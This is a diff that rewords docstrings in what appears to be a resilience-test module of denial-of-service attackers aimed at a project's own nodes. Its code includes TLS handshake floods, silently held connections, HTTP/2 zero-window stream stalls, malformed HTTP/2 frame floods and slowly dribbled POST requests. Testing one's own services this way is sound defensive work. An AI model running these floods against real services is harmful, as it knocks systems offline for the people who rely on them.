@@ -21,7 +21,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 @contextmanager
 def from_elsewhere(address: str, source: str = SOURCES[0]) -> Iterator[tuple[str, int]]:
-    """A host and port of this machine that lead to `address`, from another address."""
+    """A host and port of this machine that forward to `address`, from another source address."""
     relay = Relay(address, source)
     host, _, port = relay.address.rpartition(":")
     try:
@@ -38,7 +38,7 @@ def ports(victim: Victim) -> tuple[str, str, str]:
     "handshakes at the mutual port, closed in passing", "K1", by="stranger", emits=lambda: [connections.client_hello()]
 )
 def passing_handshakes(target: Target) -> None:
-    """A thousand at each victim, as fast as they go, while pins change by a vote of the others."""
+    """A thousand at each victim, as fast as possible, while a vote of the others changes the pins."""
     for victim in target.victims:
         with from_elsewhere(victim.mutual) as (host, port):
             connections.passing(host, port, 1_000)
@@ -55,7 +55,7 @@ def endless_handshakes(target: Target) -> None:
 
 @attacker("connections that are held without a word, or with half a handshake", "H6", by="addresses")
 def silent_connections(target: Target) -> None:
-    """A hundred and twenty at each port, of four addresses."""
+    """A hundred and twenty at each port, from four addresses."""
     with ExitStack() as stack:
         for victim, which, source in itertools.product(target.victims, range(3), SOURCES):
             host, port = stack.enter_context(from_elsewhere(ports(victim)[which], source))
@@ -84,7 +84,7 @@ def call(stream: int, path: str, request: bytes) -> bytes:
 
 
 def shut(streams: int, request: bytes, path: str = "/comity.v1.LogService/GetEntries") -> bytes:
-    """A connection whose window is 0, and `streams` calls in it, whose answers can never be sent."""
+    """A connection with a window of 0 and `streams` calls, whose answers can never be sent."""
     settings = frame(4, 0, 0, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
     calls = (call(2 * number + 1, path, request) for number in range(streams))
     return PREFACE + settings + frame(4, 1, 0, b"") + b"".join(calls)
@@ -92,7 +92,7 @@ def shut(streams: int, request: bytes, path: str = "/comity.v1.LogService/GetEnt
 
 @attacker("calls whose answers can never be sent", "H5", by="addresses", emits=lambda: [shut(2, b"")])
 def shut_windows(target: Target) -> None:
-    """Twelve connections at each open port, with twenty calls in each, in HTTP/2 whose window stays shut."""
+    """Twelve connections at each open port, with twenty calls in each, in HTTP/2 with a window of 0."""
     with Sockets() as held:
         for victim, number in itertools.product(target.victims, range(12)):
             request = message((1, victim.origin), (2, 0), (3, 65_536))
@@ -109,7 +109,7 @@ FRAMES = (
     PREFACE + frame(0, 0, 0, b"x") + frame(99, 255, 7, b"?"),
     PREFACE + b"\xff\xff\xff" + bytes(6),
 )
-"""Floods of settings, pings and resets, a header without an end, frames where none may be."""
+"""Floods of settings, pings and resets, a header without an end, frames in places where none are allowed."""
 
 
 @attacker("frames of HTTP/2 that nobody asked for", "own", by="stranger", emits=lambda: FRAMES)
@@ -124,7 +124,7 @@ def junk_frames(target: Target) -> None:
 
 @attacker("posts to the cosigner that come in drops", "M1", by="addresses")
 def dribbled_posts(target: Target) -> None:
-    """Twenty at each gateway, of half a gigabyte each, as they say."""
+    """Twenty at each gateway, with an announced length of half a gigabyte each."""
     head = (
         b"POST /%s HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: 500000000\r\n\r\n"
     )
@@ -136,7 +136,7 @@ def dribbled_posts(target: Target) -> None:
 
 
 def drip(target: Target, send: Callable[[bytes], None]) -> None:
-    """Say that everything is in place, and send a byte now and then until the others are done."""
+    """Report that the attack is ready, and send a byte now and then until the others are done."""
     target.ready.set()
     while not target.ended.wait(0.5):
         send(b"x")
